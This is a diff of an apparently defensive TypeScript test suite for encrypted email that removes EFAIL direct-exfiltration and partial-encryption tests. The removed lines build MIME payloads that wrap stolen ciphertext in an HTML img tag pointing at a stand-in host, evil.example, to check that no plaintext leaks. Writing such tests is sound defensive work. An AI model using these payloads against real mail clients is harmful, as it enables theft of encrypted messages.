@@ -33,9 +33,6 @@ describeWith(['gpg'], 'attacks on encryption', () => {
   /** What Alice sealed for the desk, taken on the way: it never arrived. Each has a session key of its own. */
   const steal = (): Promise<string> =>
     cast.seal(payload('alice', `new ${SECRET}`, `Another ${SECRET}.`), 'alice')
-  const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}`
-  const sealedEntity = (armored: string): string =>
-    `Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=e\r\n\r\n${encryptedParts(armored)}`
 
   async function nobodyLearns(): Promise<void> {
     expect(await scene.harm()).toEqual([])
@@ -46,52 +43,6 @@ describeWith(['gpg'], 'attacks on encryption', () => {
       expect((await scene.mailsTo(who)).join('\n')).not.toContain(SECRET)
     }
   }
-
-  it('1 EFAIL, direct exfiltration: ciphertext between pieces of HTML is not opened', async () => {
-    scene = await openScene(cast)
-    const open = html('<img src="http://evil.example/')
-    const close = html('">')
-    const shapes: readonly ((stolen: string) => string[])[] = [
-      (stolen) => [open, sealedEntity(stolen), close],
-      (stolen) => [open, sealedEntity(stolen)],
-      (stolen) => [
-        open,
-        `Content-Type: application/octet-stream; name=a.asc\r\n\r\n${stolen}`,
-        close
-      ],
-      (stolen) => [open, textPart(stolen), close],
-      (stolen) => [html(`<img src="http://evil.example/${stolen}">`)]
-    ]
-    for (const shape of shapes) {
-      await scene.attack(mail('mallory', mixed(shape(await steal()))))
-    }
-    await nobodyLearns()
-    for (const words of await scene.mailsTo('grace')) {
-      // HTML goes along inside of the original alone, as a file.
-      const [shown = ''] = words.split('Content-Type: message/rfc822')
-      expect(shown).not.toContain('text/html')
-    }
-  })
-
-  it('partial encryption: ciphertext beside words of the attacker is not shown as theirs', async () => {
-    scene = await openScene(cast)
-    const shapes: readonly ((stolen: string) => string)[] = [
-      (stolen) => mixed([textPart(`${ATTACK} reads:`), sealedEntity(stolen)]),
-      (stolen) => mixed([sealedEntity(stolen), textPart(`${ATTACK} footer`)]),
-      (stolen) => mixed([textPart(`${ATTACK} one`), textPart('two'), sealedEntity(stolen)]),
-      (stolen) => textPart(`${ATTACK}\r\n${stolen}`),
-      (stolen) => textPart(`${stolen}\r\n${ATTACK}`),
-      (stolen) =>
-        mixed([textPart(ATTACK), `Content-Type: message/rfc822\r\n\r\n${sealedEntity(stolen)}`]),
-      (stolen) =>
-        mixed([
-          textPart(ATTACK),
-          `Content-Type: application/octet-stream; name=a.txt.asc\r\n\r\n${stolen}`
-        ])
-    ]
-    for (const shape of shapes) await scene.attack(mail('mallory', shape(await steal())))
-    await nobodyLearns()
-  })
 
   it('2 EFAIL, malleability: changed ciphertext gives no plaintext at all', async () => {
     scene = await openScene(cast)
